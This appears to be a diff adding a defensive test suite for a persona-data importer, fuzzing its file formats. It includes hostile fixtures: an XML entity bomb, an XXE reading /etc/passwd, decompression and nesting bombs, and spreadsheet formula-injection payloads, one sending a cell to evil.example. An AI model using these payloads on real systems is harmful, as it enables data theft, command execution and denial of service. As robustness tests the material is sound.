@@ -1,0 +1,273 @@
+"""Files made to break an importer: a sentence or some pairs, soon, with little memory, and nothing written half."""
+
+import csv
+import io
+import json
+import resource
+import struct
+import tempfile
+import zipfile
+import zlib
+from pathlib import Path
+
+import pytest
+from hypothesis import HealthCheck, example, given, settings
+from hypothesis import strategies as st
+from openpyxl import Workbook
+
+from persona import folder, importers
+from persona.cells import guarded, plain
+from persona.errors import InputError
+from persona.folder import Card
+from persona.importers import Note, Options, Skipped, table
+from persona.importers.text import open_source
+from persona.pairs import MAX_CHARACTERS, Pair
+
+PAIRS = [Pair("Who are you?", "Mags. I keep the light."), Pair("你是谁？", "本宫甄嬛。", (("a", "b"),))]
+CARD = {
+    "spec": "chara_card_v2",
+    "data": {"name": "Mags", "description": "Keeper", "first_mes": "Hi", "mes_example": ""},
+}
+SUFFIXES = (".txt", ".csv", ".tsv", ".json", ".jsonl", ".xlsx", ".parquet", ".png")
+
+
+def outcome(path: Path) -> str:
+    """What becomes of a file, by every importer and by detection: pairs, skipped lines, or a sentence."""
+    try:
+        source = open_source(path)
+    except InputError as e:
+        return str(e)
+    said = ""
+    for name in (None, *importers.formats()):
+        try:
+            chosen = name or importers.detect(source)
+            importers.importer(chosen).survey(source)
+            made = list(importers.read(source, chosen, Options(speakers=("Mags",))))
+            assert all(isinstance(item, Pair | Skipped | Note) for item in made)
+            assert all(
+                len(x) <= MAX_CHARACTERS
+                for item in made
+                if isinstance(item, Pair)
+                for x in (item.instruction, item.output)
+            )
+        except InputError as e:
+            said = str(e)
+            assert len(said) < 3_000
+    return said
+
+
+@pytest.fixture
+def put(tmp_path):
+    def write(name: str, data: bytes | str) -> Path:
+        path = tmp_path / name
+        path.write_bytes(data.encode("utf-8", "surrogatepass") if isinstance(data, str) else data)
+        return path
+
+    return write
+
+
+# --- real files, broken ------------------------------------------------------------------------------------------
+
+
+def png(text: bytes, size: tuple[int, int] = (1, 1), kind: bytes = b"tEXt") -> bytes:
+    def chunk(name: bytes, data: bytes) -> bytes:
+        return struct.pack(">I", len(data)) + name + data + struct.pack(">I", zlib.crc32(name + data))
+
+    head = struct.pack(">IIBBBBB", *size, 8, 0, 0, 0, 0)
+    return (
+        b"\x89PNG\r\n\x1a\n"
+        + chunk(b"IHDR", head)
+        + chunk(kind, text)
+        + chunk(b"IDAT", zlib.compress(b"\0\0"))
+        + chunk(b"IEND", b"")
+    )
+
+
+def xlsx(change=lambda text: text, member: str = "xl/worksheets/sheet1.xml") -> bytes:
+    book, out, made = Workbook(), io.BytesIO(), io.BytesIO()
+    for row in (["instruction", "output"], ["Who are you?", "Mags."]):
+        book.active.append(row)
+    book.save(out)
+    with zipfile.ZipFile(out) as old, zipfile.ZipFile(made, "w", zipfile.ZIP_DEFLATED) as new:
+        for name in old.namelist():
+            data = old.read(name)
+            new.writestr(name, change(data.decode()).encode() if name == member else data)
+    return made.getvalue()
+
+
+def parquet() -> bytes:
+    import pyarrow as pa
+    from pyarrow.parquet import write_table
+
+    out = io.BytesIO()
+    write_table(pa.table({"instruction": [p.instruction for p in PAIRS], "output": [p.output for p in PAIRS]}), out)
+    return out.getvalue()
+
+
+def real() -> dict[str, bytes]:
+    import base64
+
+    rows = [p.to_dict() for p in PAIRS]
+    return {
+        ".json": json.dumps(rows, ensure_ascii=False).encode(),
+        ".jsonl": "".join(json.dumps(r) + "\n" for r in rows).encode(),
+        ".csv": "".join(table.dump(PAIRS)).encode(),
+        ".xlsx": xlsx(),
+        ".png": png(b"chara\0" + base64.b64encode(json.dumps(CARD).encode())),
+        ".txt": b"ANN\nWho are you?\n\nMAGS\nI keep the light.\n" * 20,
+        ".parquet": parquet(),
+    }
+
+
+REAL = real()
+FUZZ = settings(max_examples=40, deadline=None, suppress_health_check=list(HealthCheck))
+
+
+@FUZZ
+@given(st.sampled_from(sorted(REAL)), st.data())
+def test_a_real_file_cut_changed_or_joined_is_pairs_or_a_sentence(suffix, data):
+    whole = bytearray(REAL[suffix])
+    for _ in range(data.draw(st.integers(0, 4))):
+        whole[data.draw(st.integers(0, len(whole) - 1))] = data.draw(st.integers(0, 255))
+    cut = data.draw(st.integers(0, len(whole)))
+    named = data.draw(st.sampled_from([suffix, *SUFFIXES]))
+    with tempfile.TemporaryDirectory() as place:
+        path = Path(place) / f"file{named}"
+        path.write_bytes(bytes(whole[:cut]) + data.draw(st.sampled_from([b"", b"\0", bytes(whole)])))
+        outcome(path)
+
+
+@FUZZ
+@given(st.one_of(st.binary(max_size=400), st.text(max_size=200).map(lambda s: s.encode("utf-8", "surrogatepass"))),
+       st.sampled_from(SUFFIXES), st.sampled_from([b"", b"PAR1", b"PK\3\4", b"\x89PNG\r\n\x1a\n", b"[", b"{", b"\xff\xfe"]))  # fmt: skip
+@example(b"PAR1" * 3, ".parquet", b"PAR1")
+@example(b"\xd8" * 9, ".json", b"\xff\xfe")
+def test_any_bytes_are_pairs_or_a_sentence(data, suffix, start):
+    with tempfile.TemporaryDirectory() as place:
+        path = Path(place) / f"file{suffix}"
+        path.write_bytes(start + data)
+        outcome(path)
+
+
+VALUES = st.recursive(
+    st.one_of(st.none(), st.booleans(), st.integers(), st.floats(), st.text(max_size=9)),
+    lambda inner: st.lists(inner, max_size=3) | st.dictionaries(
+        st.sampled_from(["instruction", "output", "history", "conversations", "messages", "from", "value", "role", "content",
+                         "data", "name", "description", "first_mes", "mes_example", "spec", "prompt", "x"]), inner, max_size=4),
+    max_leaves=12,
+)  # fmt: skip
+
+
+@settings(max_examples=150, deadline=None, suppress_health_check=list(HealthCheck))
+@given(st.lists(VALUES, max_size=3), st.booleans())
+def test_any_json_is_pairs_or_a_sentence(rows, lines):
+    with tempfile.TemporaryDirectory() as place:
+        path = Path(place) / ("f.jsonl" if lines else "f.json")
+        text = "\n".join(map(json.dumps, rows)) if lines else json.dumps(rows)
+        path.write_text(text)
+        outcome(path)
+
+
+# --- bombs -------------------------------------------------------------------------------------------------------
+
+LAUGHS = '<!DOCTYPE x [<!ENTITY a "aaaaaaaaaa">' + "".join(
+    f'<!ENTITY {chr(98 + n)} "{f"&{chr(97 + n)};" * 10}">' for n in range(9)
+) + "]>"  # fmt: skip
+
+
+def with_entity(doctype: str):
+    return lambda text: text.replace("<worksheet", doctype + "<worksheet", 1).replace("<t>Who are you?", "<t>&j;")
+
+
+def rows(inner: str):
+    return lambda text: text.replace("</sheetData>", inner + "</sheetData>")
+
+
+BOMBS = {
+    "laughs.xlsx": lambda: xlsx(with_entity(LAUGHS)),
+    "file.xlsx": lambda: xlsx(with_entity('<!DOCTYPE x [<!ENTITY j SYSTEM "file:///etc/passwd">]>')),
+    "row.xlsx": lambda: xlsx(lambda t: t.replace('<row r="2"', '<row r="99999999999"')),
+    "right.xlsx": lambda: xlsx(rows("".join(f'<row r="{n}"><c r="XFD{n}"><v>1</v></c></row>' for n in range(3, 30_000)))),
+    "unpacks.xlsx": lambda: xlsx(rows("<!--" + " " * 30_000_000 + "-->")),
+    "columns.csv": lambda: "a," * 900_000 + "b\n1,2\n",
+    "names.csv": lambda: ",".join(f"a{n}" for n in range(60_000)) + "\n1,2\n",
+    "tabs.txt": lambda: "\t" * 100_000 + "x",
+    "commas.txt": lambda: "," * 100_000 + "x",
+    "cell.csv": lambda: "instruction,output\n" + "x" * 2_100_000 + ",b\n",
+    "deep.json": lambda: '[{"instruction": ' + "[" * 200_000 + "]" * 200_000 + "}]",
+    "deeper.json": lambda: "[" * 1_000_000,
+    "keys.json": lambda: '{"a":' * 30_000,
+    "number.json": lambda: '[{"instruction": ' + "9" * 100_000 + ', "output": "b"}]',
+    "quote.csv": lambda: 'instruction,output\n"' + "x\n" * 10_000,
+    "many.png": lambda: png(b"chara\0" + b"A" * 1_000_000),
+    "packed.png": lambda: png(b"chara\0\0" + zlib.compress(b"A" * 90_000_000), kind=b"zTXt"),
+    "pixels.png": lambda: png(b"chara\0AAAA", (60_000, 60_000)),
+    "nul.txt": lambda: b"\0" * 3_000_000,
+}  # fmt: skip
+
+
+@pytest.mark.timeout(60)
+@pytest.mark.parametrize("name", [n for n in BOMBS if n not in ("right.xlsx",)])
+def test_a_bomb_ends_soon_in_little_memory(name, put):
+    """Each of these took minutes, gigabytes or for ever before its limit was there, or would without it."""
+    path = put(name, BOMBS[name]())
+    before = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
+    said = outcome(path)
+    assert "/root" not in said and "root:" not in said
+    assert resource.getrusage(resource.RUSAGE_SELF).ru_maxrss - before < 600_000  # kilobytes
+
+
+def test_a_sheet_that_claims_too_much_is_refused(put, monkeypatch):
+    monkeypatch.setattr(table, "MAX_CELLS", 100_000)
+    with pytest.raises(InputError, match="claims more than"):
+        list(table.read(open_source(put("right.xlsx", BOMBS["right.xlsx"]())), Options()))
+    with pytest.raises(InputError, match="claims more than"):
+        list(table.read(open_source(put("row.xlsx", BOMBS["row.xlsx"]())), Options()))
+
+
+def test_too_many_columns_are_refused_in_words(put):
+    with pytest.raises(InputError, match="60,000 columns"):
+        table.survey(open_source(put("names.csv", BOMBS["names.csv"]())))
+
+
+def test_rows_of_too_many_cells_are_kept_in_short(put):
+    """Ten thousand skipped rows are kept to be listed; of two million characters each they would be twenty gigabytes."""
+    source = open_source(put("x.csv", "instruction,output\n" + "a,b," + "c" * 1_000_000 + "\n"))
+    skipped = [i for i in table.read(source, Options()) if isinstance(i, Skipped)]
+    assert len(skipped) == 1 and len(skipped[0].text) < 3_000
+
+
+@pytest.mark.parametrize("name", ["row.xlsx", "columns.csv", "file.xlsx", "packed.png"])
+def test_a_refused_file_writes_nothing(name, put):
+    mine = folder.create(folder.personas_dir() / "mags", Card(name="Mags"), PAIRS)
+    before = sorted((p, p.read_bytes()) for p in mine.path.rglob("*") if p.is_file())
+    format = "character" if name.endswith("png") else "table"
+    with pytest.raises(InputError):
+        importers.bring_in(mine, open_source(put(name, BOMBS[name]())), format, Options())
+    assert sorted((p, p.read_bytes()) for p in mine.path.rglob("*") if p.is_file() and p.name != ".lock") == before
+
+
+# --- formulas ----------------------------------------------------------------------------------------------------
+
+FORMULAS = ["=1+1", "+1", "-1", "@SUM(A1)", "\tx", "\rx", "\nx", " =1", "\u3000=1", "＝1", "＋1", "－1", "＠x", "'=1", "''=1",
+            "=cmd|' /C calc'!A0", '=HYPERLINK("http://evil.example?"&A1)', "- a list", "-- Ann", "'\t", "'\n=1"]  # fmt: skip
+TEXTS = ["'Twas the night", "'", "''", "“=1”", "a=1", "Plain.", "''quoted''", "1-2", "…", "'n' roll"]
+
+
+@pytest.mark.parametrize("text", FORMULAS)
+def test_no_exported_cell_is_a_formula_and_each_comes_back_the_same(text, put):
+    pair = Pair(text, text, ((text, text),), text)
+    made = "".join(table.dump([pair]))
+    cells = list(csv.reader(io.StringIO(made.removeprefix("\ufeff"), newline="")))[1]
+    assert all(c.lstrip()[:1] not in tuple("=+-@＝＋－＠") and c[:1] not in ("\t", "\r", "\n") for c in cells)
+    assert [i for i in table.read(open_source(put("x.csv", made)), Options()) if isinstance(i, Pair)] == [pair]
+
+
+@pytest.mark.parametrize("text", TEXTS)
+def test_text_that_is_no_formula_is_left_alone_both_ways(text):
+    assert guarded(text) == text == plain(text)
+
+
+@given(st.text(alphabet="'=+-@＝ \t\r\nab", max_size=12))
+def test_every_text_comes_back_the_same(text):
+    assert plain(guarded(text)) == text
